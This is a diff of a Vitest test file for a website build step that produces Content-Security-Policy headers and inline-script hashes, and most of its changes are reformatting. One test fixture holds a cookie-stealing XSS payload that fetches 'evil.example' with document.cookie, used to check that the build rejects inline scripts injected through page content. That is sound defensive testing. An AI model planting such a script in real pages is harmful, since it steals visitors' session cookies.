@@ -6,12 +6,24 @@ import fs from 'node:fs'
 import os from 'node:os'
 import path from 'node:path'
 import { afterEach, describe, expect, it } from 'vitest'
-import { adminContentSecurityPolicy, cloudflareHeadersForPath, contentSecurityPolicy, headersFile, headersForPath, inlineScriptHashes, parseHeaderRules, securityHeaders } from '../../build-steps/security-headers.mjs'
+import {
+  adminContentSecurityPolicy,
+  cloudflareHeadersForPath,
+  contentSecurityPolicy,
+  headersFile,
+  headersForPath,
+  inlineScriptHashes,
+  parseHeaderRules,
+  securityHeaders,
+} from '../../build-steps/security-headers.mjs'
 
 let dir: string
 const page = (relative: string, body: string) => {
   fs.mkdirSync(path.dirname(path.join(dir, relative)), { recursive: true })
-  fs.writeFileSync(path.join(dir, relative), `<!DOCTYPE html><html><head><script src="/assets/entry.js" type="module"></script></head><body>${body}</body></html>`)
+  fs.writeFileSync(
+    path.join(dir, relative),
+    `<!DOCTYPE html><html><head><script src="/assets/entry.js" type="module"></script></head><body>${body}</body></html>`,
+  )
 }
 const hashOf = (script: string) => `'sha256-${crypto.createHash('sha256').update(script, 'utf8').digest('base64')}'`
 const SITE_SCRIPT = 'document.documentElement.classList.add("js")'
@@ -19,7 +31,7 @@ const SITE_SCRIPT = 'document.documentElement.classList.add("js")'
 afterEach(() => fs.rmSync(dir, { recursive: true, force: true }))
 
 describe('inline scripts and the Content-Security-Policy', () => {
-  it('refuses an inline script that came with a page\'s content, naming the page and its content file', () => {
+  it("refuses an inline script that came with a page's content, naming the page and its content file", () => {
     dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-'))
     page('index.html', '<h1>Home</h1>')
     page('aboutus/index.html', '<div class="prose"><p>Welcome.</p><script>fetch("https://evil.example/?c="+document.cookie)</script></div>')
@@ -37,9 +49,12 @@ describe('inline scripts and the Content-Security-Policy', () => {
     expect(String(error)).toContain('ta/services/wedding/index.html (from content/ta/pages/services/wedding.mdx)')
   })
 
-  it('keeps allowing the site\'s own inline scripts by their hashes, and leaves JSON data blocks alone', () => {
+  it("keeps allowing the site's own inline scripts by their hashes, and leaves JSON data blocks alone", () => {
     dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csp-'))
-    page('index.html', `<script>${SITE_SCRIPT}</script><script type="application/ld+json">{"@context":"https://schema.org"}</script><script id="vike_pageContext" type="application/json">{}</script>`)
+    page(
+      'index.html',
+      `<script>${SITE_SCRIPT}</script><script type="application/ld+json">{"@context":"https://schema.org"}</script><script id="vike_pageContext" type="application/json">{}</script>`,
+    )
     const hashes = inlineScriptHashes(dir, [SITE_SCRIPT])
     expect(hashes).toEqual([hashOf(SITE_SCRIPT)])
     expect(contentSecurityPolicy({ scriptHashes: hashes, connectOrigins: [] })).toContain(`script-src 'self' ${hashOf(SITE_SCRIPT)};`)
